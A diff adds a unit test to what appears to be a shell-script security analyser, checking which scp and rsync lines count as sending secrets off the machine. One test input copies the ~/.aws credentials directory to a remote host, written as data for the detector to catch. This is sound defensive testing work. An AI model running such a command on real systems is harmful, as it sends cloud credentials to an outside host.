@@ -92,3 +92,13 @@ def test_a_whole_script_follows_variables_heredocs_groups_and_loops() -> None:
 def test_a_plain_script_has_nothing_to_say() -> None:
     result = shell.analyse_script("#!/bin/sh\nset -e\ncd build\nmake -j4\necho done\n", "b.sh")
     assert result.facts == ()
+
+
+def test_identity_files_exclusions_and_downloads_are_not_sent() -> None:
+    for line in ("scp -i ~/.ssh/deploy_key dist.tgz deploy@h.example:/srv/",
+                 "rsync -avz --exclude .ssh --exclude .aws ./build/ d@h.example:/srv/",
+                 "scp d@h.example:keys/team.pub ~/.ssh/", "rsync -a ./config/ssh/ ~/.ssh/"):
+        facts = shell.analyse(line, "a.sh", 1).facts
+        assert not any(SECRET in {s.kind for s in f.carries} for f in facts), line
+    sent = shell.analyse("rsync -a ~/.aws/ b@h.example:aws/", "a.sh", 1).facts
+    assert any(f.kind == NETWORK_EGRESS and SECRET in {s.kind for s in f.carries} for f in sent)
